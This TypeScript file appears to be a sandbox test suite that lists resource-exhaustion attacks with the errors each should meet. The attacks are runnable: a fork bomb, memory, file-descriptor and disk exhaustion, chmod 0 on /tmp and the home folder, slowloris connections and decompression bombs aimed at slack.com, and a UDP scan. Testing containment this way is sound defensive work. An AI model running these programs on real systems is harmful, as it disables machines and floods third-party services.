import { harmsMachine, type Attack } from '../attack.ts'

const starves = 'it takes from its own berth, and reaches for nothing'

/** By taking all there is: of this machine, of its berth, of its gateway. */
export const hungerAttacks: readonly Attack[] = [
  {
    name: 'is a fork bomb',
    by: 'sh',
    multiplies: true,
    program: `bomb() { bomb 2>/dev/null | bomb 2>/dev/null & }
bomb 2>/dev/null
sleep 1
note lives yes`,
    mayFall: true,
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'forks until it is refused, and leaves the dead unburied',
    by: 'python',
    multiplies: true,
    program: `count = 0
try:
    for i in range(5000):
        if os.fork() == 0:
            if i % 2: os._exit(0)
            signal.pause()
        count += 1
    said['bounded'] = 'in'
except OSError as error:
    said['bounded'] = codeOf(error.errno)`,
    hears: { bounded: 'EAGAIN' },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'starts threads without end',
    by: 'python',
    multiplies: true,
    program: `import threading
stop = threading.Event()
try:
    for i in range(5000): threading.Thread(target=stop.wait, daemon=True).start()
    said['threads'] = 'in'
except RuntimeError: said['threads'] = 'refused'`,
    hears: { threads: 'refused' },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'takes all memory, in many processes at once',
    by: 'python',
    program: `for i in range(2):
    if os.fork() == 0:
        held = []
        while True: held.append(b'x' * (32 << 20))
ended = [os.wait()[1] for i in range(2)]
said['ended'] = all(one != 0 for one in ended)`,
    mayFall: true,
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'opens files, pipes and sockets until none is left',
    by: 'python',
    program: `held = []
def until(make):
    try:
        while len(held) < 100000: held.append(make())
        return 'in'
    except OSError as error: return codeOf(error.errno)
attempt('files', lambda: until(lambda: os.open('/dev/null', os.O_RDONLY)))
for one in held: os.close(one)
held.clear()
attempt('sockets', lambda: until(lambda: socket.socket()))
for one in held: one.close()
held.clear()
attempt('pipes', lambda: until(os.pipe))
for one in held: os.close(one[0]); os.close(one[1])`,
    hears: { files: 'EMFILE', sockets: 'EMFILE', pipes: 'EMFILE' },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'fills every disk that it can write to, and files without end',
    by: 'python',
    program: `signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
def fill(folder):
    written = 0
    try:
        for i in range(400):
            with open('%s/%d' % (folder, i), 'wb') as one: written += one.write(b'x' * (4 << 20))
        return 'in'
    except OSError as error: return codeOf(error.errno)
def long():
    with open('/tmp/long', 'wb', buffering=0) as one:
        for i in range(64): one.write(b'x' * (1 << 20))
attempt('long', long)
os.path.exists('/tmp/long') and os.remove('/tmp/long')
for folder in [os.environ['HOME'], '/tmp', '/dev/shm', '/var/tmp', '/run', '/dev', '/', '/home']: attempt(folder, lambda: fill(folder))
def sparse():
    with open('/tmp/0', 'wb') as one: one.truncate(1 << 40)
attempt('sparse', sparse)`,
    hears: {
      long: 'EFBIG',
      '/tmp': 'ENOSPC',
      '/dev/shm': 'ENOSPC',
      '/run': 'EROFS',
      sparse: 'EFBIG',
    },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'makes files until the disk has room for no more of them',
    by: 'python',
    program: `def many():
    for i in range(300000): os.close(os.open('/tmp/%d' % i, os.O_CREAT | os.O_WRONLY))
attempt('many', many)`,
    hears: { many: 'ENOSPC' },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'leaves what is hard to remove: depth, odd names, closed folders, its own memory mapped',
    by: 'python',
    program: `os.chdir('/tmp')
for i in range(1500):
    os.mkdir('d' * 60)
    os.chdir('d' * 60)
os.chdir(os.environ['HOME'])
for name in [b'\\xff\\xfe', b'a\\nb', b'-rf', b' ', b'\\xc0\\xaf', b'*', b'x' * 255, '\\u202e'.encode()]:
    os.mkdir(os.path.join(os.environ['HOME'].encode(), name))
    open(os.path.join(os.environ['HOME'].encode(), name, b'\\xff'), 'w').close()
os.mkdir('closed')
open('closed/file', 'w').close()
os.mkfifo('closed/pipe')
os.symlink('/', 'closed/root')
os.chmod('closed/file', 0)
os.chmod('closed', 0)
os.chmod('/dev/shm', 0)
os.chmod('/tmp', 0)
os.chmod(os.environ['HOME'], 0)
said['left'] = True`,
    hears: { left: true },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'holds connections to its gateway, and never ends a sentence',
    by: 'node',
    program: `const held = []
const hold = (host, port, text) => new Promise((resolve) => { const socket = net.connect(port, host, () => { socket.write(text); held.push(socket); resolve() }); socket.on('error', resolve) })
for (let i = 0; i < 50; i++) await Promise.all([hold('slack.com', 80, 'GET / HTTP/1.1\\r\\nHost: sl'), hold('slack.com', 443, '\\x16\\x03\\x01'), hold('slack.com', 80, 'POST /api/api.test HTTP/1.1\\r\\nHost: slack.com\\r\\nContent-Length: 1000000\\r\\n\\r\\nx')])
const drip = setInterval(() => { for (const one of held) one.write('a') }, 50)
await wait(500)
await attempt('others', () => fetch('https://slack.com/api/api.test').then((reply) => reply.status))
clearInterval(drip)
said.held = held.length`,
    hears: { others: 200, held: 150 },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'opens thousands of connections, and cuts them',
    by: 'node',
    program: `let opened = 0
for (let round = 0; round < 20; round++) {
  await Promise.all(Array.from({ length: 60 }, (_, i) => new Promise((resolve) => {
    const socket = net.connect(i % 2 ? 80 : 443, 'slack.com', () => { opened++; socket.resetAndDestroy(); resolve() })
    socket.on('error', resolve)
  })))
}
said.opened = opened > 1000
await attempt('after', () => fetch('https://slack.com/api/api.test').then((reply) => reply.status))`,
    hears: { opened: true, after: 200 },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'sends headers, bodies and bombs without measure to a twin',
    by: 'node',
    program: `const post = (body, headers) => fetch('https://slack.com/api/chat.postMessage', { method: 'POST', body, headers: { authorization: 'Bearer ' + process.env.SLACK_BOT_TOKEN, ...headers }, signal: AbortSignal.timeout(20000) }).then((reply) => reply.status)
const type = 'application/json'
await attempt('header', () => raw('slack.com', 80, 'GET / HTTP/1.1\\r\\nHost: slack.com\\r\\nX: ' + 'x'.repeat(1 << 20) + '\\r\\n\\r\\n'))
await attempt('headers', () => raw('slack.com', 80, 'GET / HTTP/1.1\\r\\nHost: slack.com\\r\\n' + 'a: b\\r\\n'.repeat(1 << 16) + '\\r\\n'))
const bomb = zlib.gzipSync(Buffer.alloc(64 << 20), { level: 9 })
await attempt('gzip', () => post(bomb, { 'content-encoding': 'gzip', 'content-type': type }))
await attempt('bomb in a bomb', () => post(zlib.gzipSync(bomb), { 'content-encoding': 'gzip, gzip', 'content-type': type }))
await attempt('brotli', () => post(zlib.brotliCompressSync(Buffer.alloc(16 << 20)), { 'content-encoding': 'br', 'content-type': type }))
await attempt('zip', () => post(Buffer.concat([Buffer.from('PK\\x03\\x04'), bomb]), { 'content-type': 'application/zip' }))
await attempt('large', () => post(Buffer.alloc(40 << 20, 97), { 'content-type': type }))
await attempt('deep', () => post('['.repeat(1 << 20), { 'content-type': type }))
await attempt('after', () => fetch('https://slack.com/api/api.test').then((reply) => reply.status))`,
    hears: { header: '431', headers: '431', after: 200 },
    unseen: starves,
    control: harmsMachine,
  },
  {
    name: 'scans ten thousand places',
    by: 'node',
    program: `const socket = dgram.createSocket('udp4')
socket.on('error', () => {})
for (let i = 0; i < 10000; i++) { socket.send('x', 1000 + (i % 50000), '203.0.113.' + (i % 250 + 1)); if (i % 500 === 0) await wait(1) }
await wait(300)
said.scanned = true`,
    hears: { scanned: true },
    seen: [/^send udp:\/\/203\.0\.113\.\d+:\d+$/, /^not listed: \d+ more attempts$/],
    control: harmsMachine,
  },
]
